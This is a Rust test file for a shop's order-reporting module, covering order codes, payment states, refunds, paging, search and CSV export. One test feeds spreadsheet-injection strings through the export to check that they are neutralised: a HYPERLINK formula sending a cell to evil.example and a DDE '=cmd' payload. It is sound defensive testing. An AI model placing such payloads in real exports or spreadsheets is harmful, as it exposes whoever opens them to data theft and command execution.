//! Orders as merchants pull them, against a sale whose money is on record.
#![allow(clippy::unwrap_used, reason = "a test stops at the first surprise")]

mod support;

use std::path::Path;

use rusqlite::Connection;
use stampede_domain::{
    Charges, DropId, DropPlan, HoldId, Mode, Money, OrderCode, OrderId, PaymentId, RefundReason,
    SkuOption,
};
use stampede_ledger::{HoldRecord, LEDGER_FILE, PaymentChange, PaymentRecord};
use stampede_report::orders::{
    CSV_HEADER, ListedOrder, Order, OrderName, OrderState, OrdersFold, OrdersReader, PageStart,
    csv_line,
};
use support::{
    counted::Counted,
    eur, journal,
    shop::{Shop, pi, terms},
    units,
};

fn all(path: &Path) -> Vec<ListedOrder> {
    let page = OrdersReader::new()
        .page(&journal(path), PageStart::After(0), 1_000, &mut |_| true)
        .unwrap();
    assert!(!page.more);
    page.orders
}

fn edition(order: &Order) -> String {
    order.edition.as_ref().map(|edition| format!("{} of {}", edition.numbers, edition.of)).unwrap()
}

#[test]
fn numbers_and_codes_follow_the_order_of_commits() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, terms());
    // Taken first, ordered last.
    let late = shop.take(drop, 0, 1, (1, "v1"));
    let first = shop.sell(drop, 0, 2, (2, "v2"), 1_990);
    shop.sell(drop, 1, 1, (3, "v3"), 2_990);
    shop.confirm(late, 1, 1, 1_990);
    shop.commit();
    shop.rig.close();
    let orders = all(dir.path());
    let codes: Vec<_> = orders.iter().map(|listed| listed.order.code.to_string()).collect();
    assert_eq!(codes, ["1-1-9", "1-2-4", "1-3-5"]);
    assert_eq!(orders[0].order.id, OrderId::of(first));
    assert_eq!(edition(&orders[0].order), "No. 1-2 of 5");
    assert_eq!(orders[1].order.edition, None);
    assert_eq!(edition(&orders[2].order), "No. 3 of 5");
    assert!(orders.windows(2).all(|pair| pair[0].place < pair[1].place));
}

#[test]
fn numbers_of_units_that_are_on_sale_again_go_to_the_next_orders() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, terms());
    let one = shop.sell(drop, 0, 3, (1, "v1"), 1_990);
    let gone = shop.sell(drop, 0, 1, (2, "v2"), 1_990);
    shop.cancel(one, 2, 3_980, Some(3));
    shop.commit();
    shop.cancel(gone, 1, 1_990, None);
    shop.commit();
    let next = shop.sell(drop, 0, 3, (3, "v3"), 1_990);
    shop.rig.close();
    let reader = OrdersReader::new();
    let find = |hold| {
        let name = OrderName::Id(OrderId::of(hold));
        reader.find(&journal(dir.path()), name).unwrap().unwrap()
    };
    assert_eq!(edition(&find(one)), "No. 1 of 5", "what came back is no new unit");
    assert_eq!(edition(&find(next)), "No. 2-3, 5 of 5");
    assert_eq!((find(gone).state, edition(&find(gone))), (OrderState::Cancelled, " of 5".into()));
    assert_eq!((find(one).cancelled_units, find(one).state), (2, OrderState::Paid));
}

#[test]
fn states_say_how_the_money_stands() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, terms());
    let order = |shop: &mut Shop, who, change: &dyn Fn(PaymentId) -> Vec<PaymentChange>| {
        let hold = shop.take(drop, 1, 1, (who, "v"));
        shop.commit();
        for change in change(pi(hold)) {
            shop.money(hold, change);
        }
        shop.confirm(hold, who, 1, 2_990);
        shop.commit();
        hold
    };
    let paid = |payment| PaymentChange::Paid { payment, amount: eur(2_990) };
    let authorized = |payment| PaymentChange::Authorized { payment, amount: eur(2_990) };
    let holds = [
        order(&mut shop, 1, &|payment| vec![paid(payment)]),
        order(&mut shop, 2, &|payment| vec![authorized(payment)]),
        order(&mut shop, 3, &|payment| vec![paid(payment)]),
        order(&mut shop, 4, &|payment| vec![paid(payment)]),
        order(&mut shop, 5, &|payment| vec![authorized(payment)]),
        order(&mut shop, 6, &|payment| vec![paid(payment)]),
        order(&mut shop, 7, &|_| Vec::new()),
    ];
    let refunded = |hold, total| PaymentChange::Refunded { payment: pi(hold), total: eur(total) };
    shop.money(holds[2], refunded(holds[2], 1_000));
    shop.money(holds[3], refunded(holds[3], 2_990));
    shop.money(holds[4], PaymentChange::Voided { payment: pi(holds[4]) });
    // Somebody paid twice; the second payment has to go back.
    let second = PaymentId::new("platform", "twice").unwrap();
    shop.money(holds[5], paid(second.clone()));
    let reason = RefundReason::SecondPayment;
    shop.money(holds[5], PaymentChange::RefundDue { payment: second, amount: eur(2_990), reason });
    shop.commit();
    shop.settle(drop);
    // Behind the drop's end.
    let late = PaymentRecord { hold: holds[0], change: refunded(holds[0], 2_000) };
    shop.push(drop.adjustments(), late);
    shop.commit();
    shop.rig.close();
    let orders = all(dir.path());
    let stands: Vec<_> = orders
        .iter()
        .map(|listed| &listed.order)
        .map(|o| (o.state.name(), o.paid_minor, o.refunded_minor, o.refund_due_minor))
        .collect();
    assert_eq!(
        stands,
        [
            ("partly_refunded", 2_990, 2_000, 0),
            ("authorized", 0, 0, 0),
            ("partly_refunded", 2_990, 1_000, 0),
            ("refunded", 2_990, 2_990, 0),
            ("unpaid", 0, 0, 0),
            ("paid", 5_980, 0, 2_990),
            ("unpaid", 0, 0, 0),
        ]
    );
    let changed = |place: usize| orders[place].order.changed_at.is_some();
    assert!(changed(0) && !changed(1) && changed(5) && !changed(6));
}

#[test]
fn orders_of_older_plans_were_paid_for() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, DropPlan { payment_terms: None, ..terms() });
    let hold = shop.take(drop, 1, 2, (1, "v1"));
    shop.commit();
    shop.confirm(hold, 1, 2, 5_980);
    shop.commit();
    shop.rig.close();
    let order = &all(dir.path())[0].order;
    assert_eq!((order.state, order.paid_minor), (OrderState::Paid, 5_980));
    assert!(order.payments.is_empty());
}

#[test]
fn pages_hold_every_order_once_while_the_sale_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drops = [shop.drop(1, terms()), shop.drop(2, terms()), shop.drop(3, terms())];
    let (reader, mut pulled, mut cursor) = (OrdersReader::new(), Vec::new(), 0);
    let mut sold = Vec::new();
    for round in 0..12_u64 {
        for drop in drops {
            sold.push(shop.sell(drop, 1, 1, (round + 1, "v"), 2_990));
        }
        // The same reader goes on where it was: a refund shows at once, the order does not come again.
        let journal = journal(dir.path());
        let page = reader
            .page(&journal, PageStart::After(cursor), 2, &mut |drop| drop != drops[2])
            .unwrap();
        assert!(page.orders.len() <= 2);
        cursor = page.cursor;
        pulled.extend(page.orders);
        if let Some(listed) = pulled.last() {
            let hold = listed.order.id.hold();
            shop.money(hold, PaymentChange::Refunded { payment: pi(hold), total: eur(1) });
            shop.commit();
            let found = reader.find(&journal, OrderName::Code(listed.order.code)).unwrap().unwrap();
            assert_eq!((found.id, found.refunded_minor), (listed.order.id, 1));
        }
    }
    shop.rig.close();
    loop {
        let page = reader
            .page(&journal(dir.path()), PageStart::After(cursor), 5, &mut |drop| drop != drops[2])
            .unwrap();
        cursor = page.cursor;
        pulled.extend(page.orders);
        if !page.more {
            break;
        }
    }
    let ids: Vec<_> = pulled.iter().map(|listed| listed.order.id.hold()).collect();
    sold.retain(|hold| hold.drop_id() != drops[2]);
    assert_eq!(ids, sold);
    // What was kept between pages is what a fold from the beginning gives.
    let anew = OrdersReader::new();
    for hold in sold {
        let name = OrderName::Id(OrderId::of(hold));
        let both = [&reader, &anew].map(|reader| {
            let found = reader.find(&journal(dir.path()), name).unwrap().unwrap();
            (found.code, found.state, found.refunded_minor, found.viewer)
        });
        assert_eq!(both[0], both[1]);
    }
}

#[test]
fn a_page_has_orders_of_so_many_drops_at_most() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    for number in 1..=20 {
        let drop = shop.drop(number, terms());
        shop.sell(drop, 1, 1, (1, "v"), 2_990);
    }
    shop.rig.close();
    let reader = OrdersReader::new();
    let first = reader.page(&journal(dir.path()), PageStart::After(0), 100, &mut |_| true).unwrap();
    assert_eq!((first.orders.len(), first.more), (16, true));
    let rest = reader
        .page(&journal(dir.path()), PageStart::After(first.cursor), 100, &mut |_| true)
        .unwrap();
    assert_eq!((rest.orders.len(), rest.more), (4, false));
    let none = reader
        .page(&journal(dir.path()), PageStart::After(rest.cursor), 100, &mut |_| true)
        .unwrap();
    assert_eq!((none.orders.len(), none.cursor, none.more), (0, rest.cursor, false));
}

#[test]
fn a_buyer_who_was_erased_has_no_name_from_the_next_page_on() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drops = [shop.drop(1, terms()), shop.drop(2, terms())];
    // The link stands with the take in the second drop, as the engine writes it.
    shop.sell(drops[1], 1, 1, (7, "auth0|7"), 2_990);
    let hold = shop.take(drops[0], 1, 1, (7, "auth0|7"));
    shop.waiting[0].link = None;
    shop.commit();
    shop.confirm(hold, 7, 1, 2_990);
    shop.sell(drops[0], 1, 1, (8, "auth0|8"), 2_990);
    shop.rig.close();
    let reader = OrdersReader::new();
    let names = || -> Vec<Option<String>> {
        let page =
            reader.page(&journal(dir.path()), PageStart::After(0), 100, &mut |_| true).unwrap();
        page.orders.into_iter().map(|listed| listed.order.viewer.map(|id| id.to_string())).collect()
    };
    let (seven, eight) = (Some("auth0|7".to_owned()), Some("auth0|8".to_owned()));
    assert_eq!(names(), [seven.clone(), seven, eight.clone()]);
    let connection = Connection::open(dir.path().join(LEDGER_FILE)).unwrap();
    let like = "UPDATE viewers SET pairs = x'02' WHERE instr(pairs, CAST('auth0|7' AS BLOB)) > 0";
    assert_eq!(connection.execute(like, ()).unwrap(), 1);
    assert_eq!(names(), [None, None, eight]);
}

#[test]
fn an_order_is_found_by_both_of_its_names_alone() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, terms());
    let hold = shop.sell(drop, 1, 1, (1, "v"), 2_990);
    let held = shop.take(drop, 1, 1, (1, "v"));
    shop.commit();
    shop.rig.close();
    let reader = OrdersReader::new();
    let find = |name: &str| reader.find(&journal(dir.path()), name.parse().unwrap()).unwrap();
    assert!(find(&hold.to_string()).is_some());
    assert!(find("1-1-9").is_some());
    assert!(find(&held.to_string()).is_none(), "a hold is no order");
    let second = OrderCode::new(drop, stampede_domain::OrderNumber::new(2).unwrap()).unwrap();
    assert!(find(&second.to_string()).is_none());
    assert!(find(&"0".repeat(32)).is_none());
    assert!(find(&"f".repeat(32)).is_none());
}

/// Texts that older versions let in, and what viewers may be called today.
fn hostile() -> DropPlan {
    let mut plan = terms();
    plan.mode = Mode::Rehearsal;
    let mug = &mut plan.skus[0];
    mug.title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Mug\")".into();
    mug.merchant_sku = "007".into();
    mug.options = vec![
        SkuOption { name: "size".into(), value: "\"L\", =2+3".into() },
        SkuOption { name: "-x".into(), value: "+y".into() },
    ];
    let cup = &mut plan.skus[1];
    cup.title = "\u{202E}=puC".into();
    cup.merchant_sku = "-00012E5".into();
    cup.options = vec![SkuOption { name: "@SUM(1)".into(), value: "\u{5D0}\u{5D1}, ".repeat(33) }];
    plan
}

#[test]
fn the_csv_file_changes_only_on_purpose() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, hostile());
    let names =
        ["=cmd|' /C calc'!A0", "v,1", "'s-Hertogenbosch", "\u{41F}\u{435}\u{442}\u{440}", "@me"];
    for (who, name) in (1..).zip(names) {
        let sku = usize::try_from(who % 2).unwrap();
        shop.sell(drop, sku, 1, (who, name), if sku == 0 { 1_990 } else { 2_990 });
    }
    let long = "\u{e9}".repeat(64);
    let hold = shop.take(drop, 0, 2, (9, &long));
    shop.commit();
    let charges = Charges { shipping: 490, tax: 38, fee: 5 };
    shop.money(hold, PaymentChange::Charged(charges));
    shop.money(hold, PaymentChange::Referenced("-2001:A".parse().unwrap()));
    let failed = PaymentId::new("platform", "first").unwrap();
    let reason = "card_declined".parse().unwrap();
    shop.money(hold, PaymentChange::Failed { payment: failed, reason });
    shop.money(hold, PaymentChange::Paid { payment: pi(hold), amount: eur(4_513) });
    shop.confirm(hold, 9, 2, 3_980);
    shop.commit();
    shop.cancel(hold, 1, 2_257, None);
    let due = PaymentChange::RefundDue {
        payment: pi(hold),
        amount: eur(2_257),
        reason: RefundReason::Cancelled,
    };
    shop.money(hold, due);
    shop.money(hold, PaymentChange::Refunded { payment: pi(hold), total: eur(257) });
    shop.commit();
    shop.rig.close();
    let mut file = CSV_HEADER.as_bytes().to_vec();
    for listed in all(dir.path()) {
        csv_line(&listed, &mut file);
    }
    let file = String::from_utf8(file).unwrap();
    let records = parsed(&file);
    let columns = records[0].len();
    for record in &records {
        assert_eq!(record.len(), columns);
    }
    let column = |name: &str| records[0].iter().position(|of| of == name).unwrap();
    // A program takes one apostrophe off and has the text.
    let viewers: Vec<_> = records[1..].iter().map(|of| plain(&of[column("viewer")])).collect();
    let expected: Vec<_> = names.into_iter().chain([long.as_str()]).collect();
    assert_eq!(viewers, expected);
    for record in &records[1..] {
        for (name, field) in records[0].iter().zip(record) {
            let begins = field.trim_start_matches('\u{202E}').chars().next();
            assert!(!begins.is_some_and(|c| "=+-@\t\r".contains(c)), "{name}: {field:?}");
        }
    }
    insta::assert_snapshot!("orders_csv", file.replace("\r\n", "\\r\\n\n"));
}

/// A text of the file without the apostrophe that makes it harmless.
fn plain(field: &str) -> &str {
    field.strip_prefix('\'').unwrap_or(field)
}

/// The file by the rules of RFC 4180, read by other means than it was written.
fn parsed(file: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let (mut chars, mut quoted) = (file.chars().peekable(), false);
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => record.push(std::mem::take(&mut field)),
            '\r' if !quoted => {
                assert_eq!(chars.next(), Some('\n'));
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            c => field.push(c),
        }
    }
    assert!(!quoted && field.is_empty() && record.is_empty());
    records
}

#[test]
fn a_fold_without_a_reader_gives_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drop = shop.drop(1, terms());
    for who in 1..=4 {
        shop.sell(drop, 1, 1, (who, "v"), 2_990);
    }
    shop.rig.close();
    let journal = journal(dir.path());
    let mut fold = OrdersFold::new(drop);
    for row in stampede_ledger::Rows::of_drop(&journal, drop).unwrap() {
        fold.apply(&row.unwrap()).unwrap();
    }
    let codes: Vec<_> = fold.orders().map(|order| order.code).collect();
    let listed: Vec<_> = all(dir.path()).iter().map(|listed| listed.order.code).collect();
    assert_eq!(codes, listed);
    let amount: Option<Money> = fold.orders().next().map(|order| order.goods);
    assert_eq!(amount, Some(eur(2_990)));
}

#[test]
fn the_newest_come_first_where_that_is_asked_for() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let (one, two) = (shop.drop(1, terms()), shop.drop(2, terms()));
    for who in 1..=4 {
        shop.sell(if who % 2 == 0 { two } else { one }, 1, 1, (who, "v"), 2_990);
    }
    shop.rig.close();
    let reader = OrdersReader::new();
    let (mut start, mut codes) = (PageStart::Before(u64::MAX), Vec::new());
    loop {
        let page = reader.page(&journal(dir.path()), start, 2, &mut |drop| drop == one).unwrap();
        codes.extend(page.orders.iter().map(|listed| listed.order.code.to_string()));
        start = PageStart::Before(page.cursor);
        if !page.more {
            break;
        }
    }
    assert_eq!(codes, ["1-2-4", "1-1-9"]);
}

/// What a search finds, page by page: orders by their codes, other holds by their ids.
fn found(path: &Path, wanted: &str, drops: &[DropId], limit: usize) -> Vec<Vec<String>> {
    let (reader, wanted) = (OrdersReader::new(), wanted.parse().unwrap());
    let (mut below, mut pages) = (None, Vec::new());
    loop {
        let left: Vec<_> = drops
            .iter()
            .copied()
            .filter(|drop| below.is_none_or(|below: HoldId| *drop <= below.drop_id()))
            .collect();
        let page = reader.search(&journal(path), &wanted, (&left, below), limit).unwrap();
        let orders = page.orders.iter().map(|order| order.code.to_string());
        pages.push(orders.chain(page.holds.iter().map(|(hold, _)| hold.to_string())).collect());
        match page.next {
            Some(next) => below = Some(next),
            None => return pages,
        }
    }
}

#[test]
fn orders_are_found_by_what_the_platform_and_its_payments_call_them() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drops: Vec<_> = (1..=20).map(|number| shop.drop(number, terms())).collect();
    let shared = |shop: &mut Shop, drop| {
        let hold = shop.take(drop, 1, 1, (1, "v"));
        shop.commit();
        shop.money(hold, PaymentChange::Referenced("R-1".parse().unwrap()));
        shop.money(hold, PaymentChange::Paid { payment: pi(hold), amount: eur(2_990) });
        shop.confirm(hold, 1, 1, 2_990);
        shop.commit();
        hold
    };
    shared(&mut shop, drops[0]);
    let hold = shared(&mut shop, drops[19]);
    shared(&mut shop, drops[19]);
    let gone = shop.take(drops[18], 1, 1, (2, "w"));
    shop.commit();
    shop.money(gone, PaymentChange::Begun { payment: pi(gone) });
    shop.commit();
    shop.push(drops[18], HoldRecord::Expired { hold: gone, units: units(1) });
    shop.commit();
    shop.rig.close();
    let newest_first: Vec<_> = drops.iter().rev().copied().collect();
    let find = |wanted: &str, limit| found(dir.path(), wanted, &newest_first, limit);
    // Sixteen drops are looked at, then the rest.
    assert_eq!(find("R-1", 9), [vec!["20-2-0", "20-1-2"], vec!["1-1-9"]]);
    // A page that is full goes on within its drop.
    assert_eq!(find("R-1", 1)[..2], [["20-2-0"], ["20-1-2"]]);
    assert_eq!(find("R-1", 1).concat(), ["20-2-0", "20-1-2", "1-1-9"]);
    let name = |hold| pi(hold).reference.to_string();
    assert_eq!(find(&name(hold), 9).concat(), ["20-1-2"]);
    assert_eq!(find(&name(gone), 9).concat(), [gone.to_string()]);
    assert!(find("R-2", 9).concat().is_empty());
}

#[test]
fn pages_read_what_was_written_once() {
    const ORDERS: usize = 60;
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let drops = [shop.drop(1, terms()), shop.drop(2, terms())];
    for who in 1..=ORDERS {
        let who = u64::try_from(who).unwrap();
        shop.sell(
            drops[usize::from(who.is_multiple_of(2))],
            1,
            1,
            (who, &format!("v{who}")),
            2_990,
        );
    }
    shop.settle(drops[0]);
    let journal = Counted::open(dir.path());
    let rows_of = |drop: DropId| {
        let rows = stampede_ledger::Rows::of_drop(&journal.journal, drop).unwrap();
        rows.count()
    };
    let written = drops.into_iter().map(rows_of).sum::<usize>();
    let (reader, mut cursor, mut pulled) = (OrdersReader::new(), 0, 0);
    loop {
        let page = reader.page(&journal, PageStart::After(cursor), 7, &mut |_| true).unwrap();
        assert!(page.orders.iter().all(|listed| listed.order.viewer.is_some()));
        cursor = page.cursor;
        pulled += page.orders.len();
        if !page.more {
            break;
        }
    }
    assert_eq!(pulled, ORDERS);
    assert_eq!(journal.rows.get(), written, "each row is read once, whatever the pages are");
    // Each drop looks for links in its own commits, then each order reads its own.
    assert!(journal.links.get() <= 3 * ORDERS, "{}", journal.links.get());
    // What is written later is all that a later page reads.
    shop.sell(drops[1], 1, 1, (99, "late"), 2_990);
    shop.rig.close();
    journal.rows.set(0);
    let page = reader.page(&journal, PageStart::After(cursor), 7, &mut |_| true).unwrap();
    assert_eq!((page.orders.len(), journal.rows.get()), (1, 2));
    let name = page.orders[0].order.viewer.as_ref().map(ToString::to_string);
    assert_eq!(name.as_deref(), Some("late"));
}

#[test]
fn holds_that_were_paid_for_nothing_take_up_room() {
    const HOLDS: u64 = 20;
    let dir = tempfile::tempdir().unwrap();
    let mut shop = Shop::open(dir.path());
    let (busy, calm) = (shop.drop(1, terms()), shop.drop(2, terms()));
    for who in 1..=HOLDS {
        let hold = shop.take(busy, 1, 1, (who, "v"));
        shop.commit();
        let reason = "card_declined".parse().unwrap();
        shop.money(hold, PaymentChange::Failed { payment: pi(hold), reason });
        shop.push(busy, HoldRecord::Expired { hold, units: units(1) });
        shop.commit();
    }
    let order = shop.sell(calm, 1, 1, (99, "buyer"), 2_990);
    shop.rig.close();
    let journal = Counted::open(dir.path());
    let rows_of = |drop| stampede_ledger::Rows::of_drop(&journal.journal, drop).unwrap().count();
    // No order, but a hold and its account for each of them.
    let entries = usize::try_from(2 * HOLDS).unwrap();
    for (room, read_again) in [(entries + 2, 0), (entries + 1, rows_of(busy))] {
        let reader = OrdersReader::with_room(room);
        let look = |hold| reader.find(&journal, OrderName::Id(OrderId::of(hold))).unwrap();
        let failed = HoldId::from_bytes([0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
        assert!(look(failed).is_none());
        assert!(look(order).is_some());
        journal.rows.set(0);
        assert!(look(failed).is_none());
        assert_eq!(journal.rows.get(), read_again, "with room for {room}");
    }
}
